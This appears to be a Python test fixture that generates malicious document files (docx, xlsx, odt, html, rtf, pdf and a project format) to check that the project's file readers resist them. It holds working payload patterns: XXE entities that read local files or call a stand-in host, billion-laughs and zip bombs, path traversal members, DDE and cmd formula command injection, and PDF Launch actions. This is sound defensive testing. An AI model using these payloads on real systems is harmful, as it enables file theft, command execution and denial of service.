"""Files made to hurt: each asks a reader for something no honest file asks for.

``make(folder)`` writes them. Every address and path they name holds the word `MARK`, so
that whoever watches the system's calls sees at once when one of them is followed.
"""

from __future__ import annotations

import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

from tests.readers.containers import compound
from tests.readers.docx.packages import NAMESPACES, docx, p, ties, zipped
from tests.readers.test_odt import MIME, NAMES
from tests.readers.xlsx.parts import xlsx

MARK = "hostile-place"
SECRET = "这是不该读到的"
"""What stands in the file that hostile entities name."""
FAR = f"http://{MARK}.invalid/x"
SHARE = rf"\\{MARK}.invalid\share\x"
Files = dict[str, bytes | Callable[[], bytes]]
MIB = 1 << 20


def laughs() -> str:
    """A billion laughs: ten levels of ten."""
    levels = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
    return f'<!DOCTYPE x [<!ENTITY e0 "哈哈哈哈">{levels}]>'


def outside(target: str) -> str:
    return f'<!DOCTYPE x [<!ENTITY secret SYSTEM "{target}">]>'


def word(document: str, **more: str | bytes) -> bytes:
    """A Word package of a whole main part and other members."""
    members: dict[str, str | bytes] = {
        "_rels/.rels": ties(("r1", "officeDocument", "word/document.xml")),
        "word/document.xml": document,
    }
    return zipped(members | more)


def body(inside: str, doctype: str = "") -> str:
    return f"{doctype}<w:document {NAMESPACES}><w:body>{inside}</w:body></w:document>"


def lying(data: bytes, claimed: int) -> bytes:
    """A package whose directory says so many bytes of its last member."""
    place = data.rindex(b"PK\x01\x02")
    return data[: place + 24] + claimed.to_bytes(4, "little") + data[place + 28 :]


def overlapping() -> bytes:
    """Sixty names for one packed member."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", body(p("x" * 900_000)))
        first = archive.infolist()[0]
        for number in range(60):
            other = zipfile.ZipInfo(f"word/p{number}.xml")
            for name in ("compress_type", "CRC", "compress_size", "file_size", "header_offset"):
                setattr(other, name, getattr(first, name))
            archive.filelist.append(other)
    return out.getvalue()


def encrypted() -> bytes:
    data = bytearray(docx(p("x")))
    at = 0
    while (at := data.find(b"PK\x01\x02", at + 1)) > 0:
        data[at + 8] |= 1
    return bytes(data)


def far_template() -> bytes:
    tie = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="t" TargetMode="External" Target="{FAR}" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    return word(
        body(p("正文。")),
        **{
            "word/_rels/settings.xml.rels": tie,
            "word/settings.xml": f'<w:settings {NAMESPACES}><w:attachedTemplate r:id="t"/>'
            "</w:settings>",
        },
    )


def pdf(*objects: str | bytes) -> bytes:
    """A PDF of objects numbered from 1; the first is the catalogue."""
    out, places = bytearray(b"%PDF-1.5\n"), list[int]()
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        raw = content.encode() if isinstance(content, str) else content
        out += b"%d 0 obj\n" % number + raw + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, start)
    return bytes(out)


def pdf_bomb() -> bytes:
    packed = zlib.compress(zlib.compress(b" " * (120 * MIB), 9), 9)
    head = f"<</Length {len(packed)}/Filter[/FlateDecode/FlateDecode]>>stream\n".encode()
    return pdf(
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>>",
        head + packed + b"\nendstream",
    )


def rolw(**parts: bytes) -> bytes:
    """A project with true hashes around what it is given."""
    from rolwriter.model.project import Project
    from rolwriter.storage.codec import to_parts
    from rolwriter.storage.container import pack

    return pack(to_parts(Project()) | parts)


def deep_json() -> bytes:
    return b'{"parts":' + b"[" * 200_000 + b"]" * 200_000 + b"}"


def odt(inside: str, doctype: str = "") -> bytes:
    link = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
    content = (
        f"{doctype}<office:document-content {NAMES} {link}><office:body><office:text>{inside}"
        "</office:text></office:body></office:document-content>"
    )
    return zipped({"mimetype": MIME, "content.xml": content})


def files(folder: Path) -> Files:
    """All of them by name; ``folder`` holds the file that they would like to read."""
    secret = (folder / f"{MARK}.txt").as_uri()
    deep = "<w:tbl><w:tr><w:tc>"
    ends = "</w:tc></w:tr></w:tbl>"
    field = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    return {
        "entity-bomb.docx": word(body(p("&e9;"), laughs())),
        "entity-file.docx": word(body(p("&secret;"), outside(secret))),
        "entity-web.docx": word(body(p("&secret;"), outside(FAR))),
        "entity-dtd.docx": word(body(p("x"), f'<!DOCTYPE x SYSTEM "{FAR}">')),
        "entity-parameter.docx": word(
            body(p("x"), f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{FAR}"> %a;]>')
        ),
        "bomb-ratio.docx": lambda: word(body(p(" " * (70 * MIB)))),
        "bomb-sum.docx": lambda: word(
            body(p("x")), **{f"word/m{n}.xml": b" " * (52 * MIB) for n in range(4)}
        ),
        "bomb-paragraphs.docx": lambda: word(body("<w:p/>" * 3_000_000)),
        "bomb-attributes.docx": lambda: word(body("<w:p " + 'a="" ' * 10 + "/>") + " " * 9 * MIB),
        "span-huge.docx": docx(
            '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="50000000"/></w:tcPr>'
            f"{p('x')}</w:tc></w:tr></w:tbl>"
        ),
        "nested-tables.docx": docx(deep * 4000 + p("x") + ends * 4000),
        "nested-runs.docx": docx("<w:p>" + "<w:ins>" * 9000 + "</w:ins>" * 9000 + "</w:p>"),
        "traversal.docx": word(body(p("x")), **{f"../../../tmp/{MARK}": b"evil"}),
        "traversal-drive.docx": word(body(p("x")), **{f"C:/{MARK}": b"evil"}),
        "template-far.docx": far_template(),
        "picture-far.docx": docx(
            p(f'<w:r><w:pict><v:shape><v:imagedata r:href="{FAR}"/></v:shape></w:pict></w:r>', "图")
        ),
        "field-include.docx": docx(p(field.format(f'INCLUDETEXT "{SHARE}"'), "文")),
        "field-dde.docx": docx(p(field.format(f'DDEAUTO c:\\{MARK}.exe "x"'), "文")),
        "altchunk.docx": docx(f'<w:altChunk r:id="{FAR}"/>' + p("文")),
        "macros.docm": word(
            body(p("文")),
            **{
                "word/vbaProject.bin": compound({"VBA": f"Shell {MARK}".encode()}),
                "[Content_Types].xml": "<Types>ms-word.document.macroEnabled.main+xml</Types>",
            },
        ),
        "lying-small.docx": lying(word(body(p("x" * 99_999))), 10),
        "lying-large.docx": lying(word(body(p("x"))), 2**31),
        "overlapping.docx": overlapping(),
        "members.docx": lambda: zipped({f"word/m{n}.xml": "" for n in range(6000)}),
        "encrypted.docx": encrypted(),
        "truncated.docx": docx(p("文" * 999))[:-300],
        "crossed-odt.docx": zipped(
            {"mimetype": "application/vnd.oasis.opendocument.text", "word/document.xml": body("x")}
        ),
        "crossed-pdf.docx": b"%PDF-1.7\n" + docx(p("文")),
        "crossed-ole.doc": compound({"WordDocument": b"\xff" * 9000, "1Table": b"\xff" * 9000}),
        "loop.doc": compound({"WordDocument": b""})[:-512] + b"\0" * 512,
        "far-cell.xlsx": xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        "huge-merge.xlsx": xlsx(
            '<row r="1"><c r="A1"><v>1</v></c></row>',
            dimension="A1:A1",
            after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        ),
        "many-rows.xlsx": lambda: xlsx('<row r="1"><c r="A1"><v>1</v></c></row>' * 300_000),
        "entity-bomb.xlsx": xlsx("", more={"xl/sharedStrings.xml": f"{laughs()}<sst/>".encode()}),
        "link-far.xlsx": xlsx(
            '<row r="1"><c r="A1"><f>[1]x!A1</f><v>1</v></c></row>',
            more={"xl/externalLinks/_rels/externalLink1.xml.rels": ties(("r1", "x", FAR)).encode()},
        ),
        "command.xlsx": xlsx(f'<row r="1"><c r="A1"><f>cmd|"/C {MARK}"!A1</f><v>1</v></c></row>'),
        "entity-file.odt": odt("<text:p>&secret;</text:p>", outside(secret)),
        "spaces.odt": odt('<text:p>文<text:s text:c="2000000000"/>字</text:p>'),
        "columns.odt": odt(
            "<table:table><table:table-row><table:table-cell table:number-columns-repeated="
            '"2000000000"><text:p>文</text:p></table:table-cell></table:table-row></table:table>'
        ),
        "picture-far.odt": odt(
            f'<text:p><draw:frame><draw:image xlink:href="{FAR}"/></draw:frame>文</text:p>'
        ),
        "nested.odt": odt("<text:section>" * 9000 + "</text:section>" * 9000),
        "fetch.html": (
            f'<html><meta http-equiv=refresh content="0;url={FAR}"><base href="{FAR}">'
            f'<link rel=stylesheet href="{FAR}"><script src="{FAR}"></script>'
            f'<iframe src="{secret}"></iframe><img src="{SHARE}"><object data="{FAR}"></object>'
            f'<p>文</p><a href="{FAR}" ping="{FAR}">字</a></html>'
        ).encode(),
        "deep.html": b"<html>" + b"<div>" * 300_000 + "文".encode(),
        "span.html": '<table><tr><td colspan="2000000000" rowspan="2000000000">文</table>'.encode(),
        "comment.html": lambda: b"<html><p>x" + b"<!--" * 600_000,
        "entity.html": f'<html><!DOCTYPE x [<!ENTITY s SYSTEM "{secret}">]><p>&s;文</p>'.encode(),
        "links.html": b"<html>" + b"<a href=x>y</a>" * 49_000,
        "lines.text": "文\n".encode() * 400_000,
        "long.text": "文".encode() * 4_000_000,
        "groups.rtf": rb"{\rtf1 " + b"{" * 500_000,
        "template.rtf": rb"{\rtf1{\*\template " + FAR.encode() + rb"}{\field{\*\fldinst "
        rb"INCLUDETEXT " + SHARE.encode() + rb"}{\fldrslt x}}}",
        "bin.rtf": rb"{\rtf1 \bin2147483647 x}",
        "numbers.rtf": rb"{\rtf1 \u99999999999999999999 ?\uc2147483647 x}",
        "actions.pdf": pdf(
            f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI({FAR})>>>>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/Launch/F({MARK})>>>>>>",
        ),
        "loop.pdf": pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 9>>"),
        "pages.pdf": pdf(
            "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 2000000000>>"
        ),
        "bomb.pdf": pdf_bomb,
        "bomb.rolw": lambda: rolw(**{"later/zeros": b"\0" * (40 * MIB)}),
        "deep.rolw": lambda: rolw(**{"report.json": deep_json()}),
        "half-letters.rolw": lambda: rolw(**{"report.json": b'{"authority":"\\ud800"}'}),
        "traversal.rolw": lambda: rolw(**{f"../../tmp/{MARK}": b"evil"}),
        "crossed.rolw": docx(p("文")),
        "truncated.rolw": lambda: rolw()[:-90],
    }


def make(folder: Path) -> list[Path]:
    """Write them, and the file they would like to read; their paths."""
    (folder / f"{MARK}.txt").write_text(SECRET, encoding="utf-8")
    made = list[Path]()
    for name, content in files(folder).items():
        path = folder / name
        path.write_bytes(content() if callable(content) else content)
        made.append(path)
    return made
